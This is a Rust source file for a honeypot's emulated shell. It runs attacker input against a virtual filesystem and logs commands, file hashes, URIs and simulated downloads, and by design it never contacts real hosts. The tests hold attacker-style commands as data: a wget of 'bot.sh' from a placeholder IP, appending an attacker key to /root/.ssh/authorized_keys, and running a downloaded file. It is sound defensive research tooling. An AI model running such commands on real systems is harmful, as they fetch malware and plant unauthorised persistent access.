@@ -1,0 +1,528 @@
+//! The shell interpreter: executes input lines against the virtual
+//! filesystem, applies redirections and pipes, and records everything the
+//! honeypot needs — commands (known/unknown), file events with SHA-256
+//! hashes, URIs, and downloads.
+
+use hf_hash::{Digest, Sha256};
+use serde::{Deserialize, Serialize};
+
+use crate::builtins::{self, CmdOutput};
+use crate::lexer::{self, Redirection, SimpleCommand};
+use crate::profile::SystemProfile;
+use crate::uri;
+use crate::vfs::{resolve_path, Vfs};
+
+/// Supplies the bodies of "remote" resources for wget/curl/tftp/ftpget.
+///
+/// The simulator implements this with campaign-specific payloads so the same
+/// URI always yields the same bytes (and therefore the same hash) — exactly
+/// how real campaigns distribute identical droppers from many URLs.
+/// (`Send` so live front-ends can hold sessions across task await points.)
+pub trait RemoteFetcher: Send {
+    /// Fetch the body behind a URI, or `None` for unreachable hosts.
+    fn fetch(&mut self, uri: &str) -> Option<Vec<u8>>;
+}
+
+/// A fetcher for which every host is unreachable. Useful in tests and for the
+/// live front-end's safe default (the honeypot must never actually download
+/// attacker-controlled content in this reproduction).
+pub struct NullFetcher;
+
+impl RemoteFetcher for NullFetcher {
+    fn fetch(&mut self, _uri: &str) -> Option<Vec<u8>> {
+        None
+    }
+}
+
+/// A fetcher that deterministically fabricates a body from the URI itself, so
+/// the live front-end still produces stable hashes without network access.
+pub struct SyntheticFetcher;
+
+impl RemoteFetcher for SyntheticFetcher {
+    fn fetch(&mut self, uri: &str) -> Option<Vec<u8>> {
+        let mut body = b"\x7fELF<synthetic:".to_vec();
+        body.extend_from_slice(uri.as_bytes());
+        body.push(b'>');
+        Some(body)
+    }
+}
+
+/// Whether a file event created a new file or modified an existing one.
+#[derive(Debug, Clone, Copy, PartialEq, Eq, Serialize, Deserialize)]
+pub enum FileOp {
+    /// The path did not previously exist.
+    Created,
+    /// The path existed and its content changed.
+    Modified,
+}
+
+/// A file creation/modification recorded during the session, with the hash of
+/// the resulting content — the paper's unit of campaign identity.
+#[derive(Debug, Clone, PartialEq, Eq)]
+pub struct FileEvent {
+    /// Absolute path inside the VFS.
+    pub path: String,
+    /// Created vs modified.
+    pub op: FileOp,
+    /// Size of the file after the operation.
+    pub size: usize,
+    /// SHA-256 of the file content after the operation.
+    pub sha256: Digest,
+}
+
+/// One executed command (one simple command of a pipeline).
+#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
+pub struct CommandRecord {
+    /// The command as typed (argv re-joined).
+    pub input: String,
+    /// Whether the honeypot emulated it ("known") or merely recorded it.
+    pub known: bool,
+}
+
+/// Everything observable recorded over a session's shell phase.
+#[derive(Debug, Clone, Default)]
+pub struct SessionEvents {
+    /// Commands in execution order.
+    pub commands: Vec<CommandRecord>,
+    /// File events in order.
+    pub file_events: Vec<FileEvent>,
+    /// URIs referenced by commands (deduplicated, sorted).
+    pub uris: Vec<String>,
+    /// Downloads that completed: (uri, hash of the body).
+    pub downloads: Vec<(String, Digest)>,
+}
+
+/// Result of executing one input line.
+#[derive(Debug, Clone, PartialEq, Eq)]
+pub struct ExecResult {
+    /// Concatenated terminal output.
+    pub rendered: String,
+    /// Number of simple commands executed.
+    pub commands_run: usize,
+    /// Whether the client asked to exit (`exit` / `logout`).
+    pub exited: bool,
+}
+
+/// An interactive shell session bound to one honeypot login.
+pub struct ShellSession {
+    vfs: Vfs,
+    cwd: String,
+    profile: SystemProfile,
+    fetcher: Box<dyn RemoteFetcher>,
+    events: SessionEvents,
+    exited: bool,
+    /// Recursion guard for `sh -c`.
+    depth: u32,
+}
+
+impl ShellSession {
+    /// Start a session on a freshly seeded filesystem.
+    pub fn new(profile: SystemProfile, fetcher: Box<dyn RemoteFetcher>) -> Self {
+        let vfs = Vfs::seeded(&profile);
+        ShellSession {
+            vfs,
+            cwd: "/root".to_string(),
+            profile,
+            fetcher,
+            events: SessionEvents::default(),
+            exited: false,
+            depth: 0,
+        }
+    }
+
+    /// The shell prompt, as the honeypot would print it.
+    pub fn prompt(&self) -> String {
+        format!("root@{}:{}# ", self.profile.hostname, self.cwd)
+    }
+
+    /// Has the client exited?
+    pub fn exited(&self) -> bool {
+        self.exited
+    }
+
+    /// Current working directory.
+    pub fn cwd(&self) -> &str {
+        &self.cwd
+    }
+
+    /// Read-only view of the VFS (tests, forensics tooling).
+    pub fn vfs(&self) -> &Vfs {
+        &self.vfs
+    }
+
+    /// Take the accumulated events, resetting the log.
+    pub fn take_events(&mut self) -> SessionEvents {
+        let mut ev = std::mem::take(&mut self.events);
+        ev.uris.sort();
+        ev.uris.dedup();
+        ev
+    }
+
+    /// Execute one input line (may contain multiple statements).
+    pub fn execute(&mut self, line: &str) -> ExecResult {
+        // Record URIs from the raw line first: even commands the emulation
+        // fails on get their URIs recorded (paper, Section 4).
+        for u in uri::extract_uris(line) {
+            self.events.uris.push(u.0);
+        }
+        let statements = lexer::split_statements(line);
+        let mut rendered = String::new();
+        let mut commands_run = 0;
+        for stmt in statements {
+            if self.exited {
+                break;
+            }
+            let out = self.run_pipeline(&stmt.pipeline);
+            commands_run += stmt.pipeline.len();
+            rendered.push_str(&out);
+        }
+        ExecResult {
+            rendered,
+            commands_run,
+            exited: self.exited,
+        }
+    }
+
+    /// Run one pipeline, threading stdout → stdin.
+    fn run_pipeline(&mut self, pipeline: &[SimpleCommand]) -> String {
+        let mut stdin = String::new();
+        let mut rendered = String::new();
+        let n = pipeline.len();
+        for (i, cmd) in pipeline.iter().enumerate() {
+            let last = i + 1 == n;
+            let out = self.run_simple(cmd, &stdin);
+            if last {
+                rendered.push_str(&out);
+                stdin.clear();
+            } else {
+                stdin = out;
+            }
+        }
+        rendered
+    }
+
+    /// Run a single simple command with redirections.
+    fn run_simple(&mut self, cmd: &SimpleCommand, piped_stdin: &str) -> String {
+        if cmd.argv.is_empty() {
+            // Bare redirection like `> file` truncates/creates the file.
+            for r in &cmd.redirs {
+                if let Redirection::Out(t) = r {
+                    self.write_redirect(t, "", false);
+                }
+            }
+            return String::new();
+        }
+
+        // Resolve stdin: `< file` beats pipe input.
+        let mut stdin = piped_stdin.to_string();
+        for r in &cmd.redirs {
+            if let Redirection::In(src) = r {
+                let abs = resolve_path(&self.cwd, src);
+                if let Ok(content) = self.vfs.read_file(&abs) {
+                    stdin = String::from_utf8_lossy(content).into_owned();
+                }
+            }
+        }
+
+        let output = self.dispatch(cmd, &stdin);
+        let (stdout, known) = (output.stdout, output.known);
+
+        // Record the command as typed, including redirections — Cowrie logs
+        // the full input, and `echo key >> …/authorized_keys` is one of the
+        // paper's headline commands (Table 3).
+        let mut input = cmd.argv.join(" ");
+        for r in &cmd.redirs {
+            match r {
+                Redirection::Out(t) => input.push_str(&format!(" > {t}")),
+                Redirection::Append(t) => input.push_str(&format!(" >> {t}")),
+                Redirection::In(t) => input.push_str(&format!(" < {t}")),
+                Redirection::Err(t) => input.push_str(&format!(" 2>{t}")),
+                Redirection::ErrToOut => input.push_str(" 2>&1"),
+            }
+        }
+        self.events.commands.push(CommandRecord { input, known });
+
+        // Apply output redirections.
+        let mut redirected = false;
+        for r in &cmd.redirs {
+            match r {
+                Redirection::Out(t) => {
+                    self.write_redirect(t, &stdout, false);
+                    redirected = true;
+                }
+                Redirection::Append(t) => {
+                    self.write_redirect(t, &stdout, true);
+                    redirected = true;
+                }
+                Redirection::Err(t) if t != "/dev/null" => {
+                    // bash creates/truncates the stderr target.
+                    self.write_redirect(t, "", false);
+                }
+                _ => {}
+            }
+        }
+        if redirected {
+            String::new()
+        } else {
+            stdout
+        }
+    }
+
+    /// Write redirected output into the VFS and record the file event.
+    fn write_redirect(&mut self, target: &str, content: &str, append: bool) {
+        let abs = resolve_path(&self.cwd, target);
+        if abs == "/dev/null" {
+            return;
+        }
+        let existed = if append {
+            self.vfs.append_file(&abs, content.as_bytes())
+        } else {
+            self.vfs.write_file(&abs, content.as_bytes(), 0o644)
+        };
+        if let Ok(existed) = existed {
+            self.record_file_event(&abs, existed);
+        }
+    }
+
+    /// Record a file event by hashing the file's current content.
+    pub(crate) fn record_file_event(&mut self, abs: &str, existed: bool) {
+        let content = match self.vfs.read_file(abs) {
+            Ok(c) => c,
+            Err(_) => return,
+        };
+        self.events.file_events.push(FileEvent {
+            path: abs.to_string(),
+            op: if existed { FileOp::Modified } else { FileOp::Created },
+            size: content.len(),
+            sha256: Sha256::digest(content),
+        });
+    }
+
+    /// Dispatch to a builtin, a file execution, or "command not found".
+    fn dispatch(&mut self, cmd: &SimpleCommand, stdin: &str) -> CmdOutput {
+        let name = cmd.argv[0].as_str();
+
+        // Prefix commands that wrap another command.
+        if matches!(name, "nohup" | "sudo" | "exec") && cmd.argv.len() > 1 {
+            let inner = SimpleCommand {
+                argv: cmd.argv[1..].to_vec(),
+                redirs: vec![],
+            };
+            return self.dispatch(&inner, stdin);
+        }
+
+        // Executing a path (./mal, /tmp/x): succeed quietly if it exists and
+        // is executable — the behaviour droppers rely on.
+        if name.contains('/') {
+            let abs = resolve_path(&self.cwd, name);
+            return if self.vfs.exists(&abs) {
+                CmdOutput::known(String::new())
+            } else {
+                CmdOutput::known(format!("-bash: {name}: No such file or directory\n"))
+            };
+        }
+
+        let mut ctx = builtins::Ctx {
+            vfs: &mut self.vfs,
+            cwd: &mut self.cwd,
+            profile: &self.profile,
+            fetcher: self.fetcher.as_mut(),
+            file_events: &mut self.events.file_events,
+            downloads: &mut self.events.downloads,
+            exited: &mut self.exited,
+        };
+        match builtins::run(&mut ctx, &cmd.argv, stdin) {
+            Some(out) => out,
+            None => {
+                // `sh -c CMD` re-enters the interpreter (bounded depth).
+                if matches!(name, "sh" | "bash" | "ash") {
+                    if let Some(script) = flag_c_argument(&cmd.argv) {
+                        if self.depth < 4 {
+                            self.depth += 1;
+                            let res = self.execute(&script);
+                            self.depth -= 1;
+                            return CmdOutput::known(res.rendered);
+                        }
+                    }
+                    // `sh` consuming a piped script: emulate silently.
+                    return CmdOutput::known(String::new());
+                }
+                CmdOutput::unknown(format!("-bash: {name}: command not found\n"))
+            }
+        }
+    }
+}
+
+/// Extract the argument of `-c` from an argv.
+fn flag_c_argument(argv: &[String]) -> Option<String> {
+    argv.windows(2)
+        .find(|w| w[0] == "-c")
+        .map(|w| w[1].clone())
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    fn session() -> ShellSession {
+        ShellSession::new(SystemProfile::default(), Box::new(SyntheticFetcher))
+    }
+
+    #[test]
+    fn uname_renders_profile() {
+        let mut sh = session();
+        let r = sh.execute("uname -a");
+        assert!(r.rendered.contains("Linux svr04"));
+        assert_eq!(r.commands_run, 1);
+    }
+
+    #[test]
+    fn unknown_command_recorded() {
+        let mut sh = session();
+        let r = sh.execute("frobnicate --fast");
+        assert!(r.rendered.contains("command not found"));
+        let ev = sh.take_events();
+        assert_eq!(ev.commands.len(), 1);
+        assert!(!ev.commands[0].known);
+    }
+
+    #[test]
+    fn redirect_creates_file_event() {
+        let mut sh = session();
+        sh.execute("echo hello > /tmp/x");
+        let ev = sh.take_events();
+        assert_eq!(ev.file_events.len(), 1);
+        let fe = &ev.file_events[0];
+        assert_eq!(fe.path, "/tmp/x");
+        assert_eq!(fe.op, FileOp::Created);
+        assert_eq!(fe.sha256, Sha256::digest(b"hello\n"));
+    }
+
+    #[test]
+    fn append_to_existing_is_modification() {
+        let mut sh = session();
+        sh.execute("echo a > /tmp/k");
+        sh.execute("echo b >> /tmp/k");
+        let ev = sh.take_events();
+        assert_eq!(ev.file_events.len(), 2);
+        assert_eq!(ev.file_events[1].op, FileOp::Modified);
+        assert_eq!(ev.file_events[1].sha256, Sha256::digest(b"a\nb\n"));
+    }
+
+    #[test]
+    fn trojan_ssh_key_scenario() {
+        // The paper's H1: echo an attacker key into authorized_keys.
+        let mut sh = session();
+        sh.execute("mkdir -p /root/.ssh && echo 'ssh-rsa AAAAB3Nza...' >> /root/.ssh/authorized_keys");
+        let ev = sh.take_events();
+        assert_eq!(ev.file_events.len(), 1);
+        assert_eq!(ev.file_events[0].path, "/root/.ssh/authorized_keys");
+        // Same command on a new session yields the same hash — campaign identity.
+        let mut sh2 = session();
+        sh2.execute("mkdir -p /root/.ssh && echo 'ssh-rsa AAAAB3Nza...' >> /root/.ssh/authorized_keys");
+        let ev2 = sh2.take_events();
+        assert_eq!(ev.file_events[0].sha256, ev2.file_events[0].sha256);
+    }
+
+    #[test]
+    fn wget_downloads_and_hashes() {
+        let mut sh = session();
+        let r = sh.execute("cd /tmp; wget http://198.51.100.1/bot.sh");
+        assert!(r.rendered.contains("bot.sh"));
+        let ev = sh.take_events();
+        assert_eq!(ev.uris, vec!["http://198.51.100.1/bot.sh".to_string()]);
+        assert_eq!(ev.downloads.len(), 1);
+        assert_eq!(ev.file_events.len(), 1);
+        assert_eq!(ev.file_events[0].path, "/tmp/bot.sh");
+    }
+
+    #[test]
+    fn null_fetcher_fails_cleanly() {
+        let mut sh = ShellSession::new(SystemProfile::default(), Box::new(NullFetcher));
+        let r = sh.execute("wget http://h/x");
+        assert!(r.rendered.contains("failed") || r.rendered.contains("refused"));
+        let ev = sh.take_events();
+        assert!(ev.downloads.is_empty());
+        assert!(ev.file_events.is_empty());
+        assert_eq!(ev.uris.len(), 1, "URI recorded even when fetch fails");
+    }
+
+    #[test]
+    fn pipeline_threads_stdout() {
+        let mut sh = session();
+        let r = sh.execute("cat /proc/cpuinfo | grep 'model name' | head -1");
+        assert_eq!(r.rendered.lines().count(), 1);
+        assert!(r.rendered.contains("model name"));
+    }
+
+    #[test]
+    fn exit_ends_session() {
+        let mut sh = session();
+        let r = sh.execute("exit");
+        assert!(r.exited);
+        assert!(sh.exited());
+        // Statements after exit in the same line are not executed.
+        let mut sh2 = session();
+        let r2 = sh2.execute("exit; uname");
+        assert!(r2.exited);
+        assert!(!r2.rendered.contains("Linux"));
+    }
+
+    #[test]
+    fn sh_dash_c_reenters() {
+        let mut sh = session();
+        let r = sh.execute("sh -c 'echo nested > /tmp/n'");
+        assert!(r.rendered.is_empty());
+        let ev = sh.take_events();
+        assert_eq!(ev.file_events.len(), 1);
+        assert_eq!(ev.file_events[0].path, "/tmp/n");
+    }
+
+    #[test]
+    fn executing_downloaded_file() {
+        let mut sh = session();
+        sh.execute("cd /tmp && wget http://h/m && chmod 777 m");
+        let r = sh.execute("./m");
+        assert_eq!(r.rendered, "");
+        let r2 = sh.execute("./missing");
+        assert!(r2.rendered.contains("No such file"));
+    }
+
+    #[test]
+    fn stderr_to_devnull_makes_no_event() {
+        let mut sh = session();
+        sh.execute("wget http://h/x 2>/dev/null");
+        let ev = sh.take_events();
+        // only the download's own file event, no /dev/null event
+        assert!(ev.file_events.iter().all(|e| e.path != "/dev/null"));
+    }
+
+    #[test]
+    fn input_redirection_feeds_stdin() {
+        let mut sh = session();
+        sh.execute("echo 'root:newpw' > /tmp/cred");
+        let r = sh.execute("grep root < /tmp/cred");
+        assert_eq!(r.rendered, "root:newpw\n");
+    }
+
+    #[test]
+    fn prompt_shape() {
+        let sh = session();
+        assert_eq!(sh.prompt(), "root@svr04:/root# ");
+    }
+
+    #[test]
+    fn multi_file_session() {
+        // A few sessions generate >10 file operations (paper: 282 sessions).
+        let mut sh = session();
+        for i in 0..12 {
+            sh.execute(&format!("echo v{i} > /tmp/f{i}"));
+        }
+        let ev = sh.take_events();
+        assert_eq!(ev.file_events.len(), 12);
+        let mut hashes: Vec<_> = ev.file_events.iter().map(|e| e.sha256).collect();
+        hashes.sort();
+        hashes.dedup();
+        assert_eq!(hashes.len(), 12, "distinct contents yield distinct hashes");
+    }
+}
